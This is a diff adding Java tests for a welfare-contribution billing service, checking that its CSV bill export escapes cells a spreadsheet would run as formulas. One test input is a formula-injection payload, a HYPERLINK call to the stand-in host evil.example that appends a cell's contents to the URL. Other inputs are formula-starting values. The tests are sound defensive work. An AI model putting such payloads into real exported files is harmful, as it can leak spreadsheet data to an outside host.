@@ -101,6 +101,27 @@ class HostileRunRequestsTest {
         return e;
     }
 
+    /** Registers and approves, on 10 March, an applicant with this name: covered from 1 April. */
+    private void participant(int seq, String fullName) {
+        ObjectNode body;
+        try {
+            body = (ObjectNode) JSON.readTree(registrationEvent("post-registration-staff.json").getBody());
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        body.put("nik", String.format("367102120379%04d", seq)).put("fullName", fullName);
+        APIGatewayV2HTTPEvent submit = registrationEvent("post-registration-staff.json");
+        submit.setBody(body.toString());
+        LambdaResponse submitted = LambdaResponse.of(registrations().handleRequest(submit, null));
+        assertThat(submitted.status()).as(submitted.raw()).isEqualTo(201);
+        String id = submitted.body().path("id").asText();
+        APIGatewayV2HTTPEvent approve = registrationEvent("approve-registration.json");
+        approve.getPathParameters().put("id", id);
+        approve.setRawPath(approve.getRawPath().replace(PLACEHOLDER, id));
+        LambdaResponse approved = LambdaResponse.of(registrations().handleRequest(approve, null));
+        assertThat(approved.status()).as(approved.raw()).isEqualTo(200);
+    }
+
     private static List<String> fieldCodes(LambdaResponse r) {
         List<String> codes = new ArrayList<>();
         r.body().path("errors").forEach(e -> codes.add(e.path("field").asText() + " " + e.path("code").asText()));
@@ -150,4 +171,36 @@ class HostileRunRequestsTest {
         }
     }
 
+    // ------------------------------------------------------------------ 6. the bill as a spreadsheet reads it
+
+    @Test
+    void theBill_neutralisesANameAFormulaWouldRun_andKeepsTheAmountsAsNumbers() {
+        participant(1, "-Budi Santoso");
+        participant(2, "Agus Pratama");
+        assertThat(send(APRIL_5, event("post-run.json")).status()).isEqualTo(200);
+        LambdaResponse bill = send(APRIL_5, event("get-bill.json"));
+        assertThat(bill.status()).as(bill.raw()).isEqualTo(200);
+        assertThat(bill.raw().lines().toList()).containsExactly(
+                "wadah,part,nik,fullName,kpj,jkk,jkm,total,note",
+                "SG,1,3671021203790001,'-Budi Santoso,,10000,6800,16800,KPJ_MISSING",
+                "SG,1,3671021203790002,Agus Pratama,,10000,6800,16800,KPJ_MISSING");
+    }
+
+    @Test
+    void theBillWriter_neutralisesEveryTextCell_startingWithAFormulaCharacter_andNoNumber() {
+        java.time.YearMonth april = java.time.YearMonth.of(2025, 4);
+        List<id.dinsos.rentan.domain.ContributionLine> lines = List.of(
+                new id.dinsos.rentan.domain.ContributionLine("r1", april, 1, id.dinsos.rentan.domain.Nik.of("3671021203790001"),
+                        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")", "@1", 10_000, 6_800),
+                new id.dinsos.rentan.domain.ContributionLine("r2", april, 2, id.dinsos.rentan.domain.Nik.of("3671021203790002"),
+                        "-2+3", "+62", 10_000, 6_800),
+                new id.dinsos.rentan.domain.ContributionLine("r3", april, 2, id.dinsos.rentan.domain.Nik.of("3671021203790003"),
+                        "\tSiti", null, 10_000, 6_800));
+        String csv = RunEndpoints.billCsv(new id.dinsos.rentan.application.MonthlyBill.Bill(april, "SG", lines));
+        assertThat(csv.lines().toList()).containsExactly(
+                "wadah,part,nik,fullName,kpj,jkk,jkm,total,note",
+                "SG,1,3671021203790001,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"klik\"\")\",'@1,10000,6800,16800,",
+                "SG,2,3671021203790002,'-2+3,'+62,10000,6800,16800,",
+                "SG,2,3671021203790003,'\tSiti,,10000,6800,16800,KPJ_MISSING");
+    }
 }
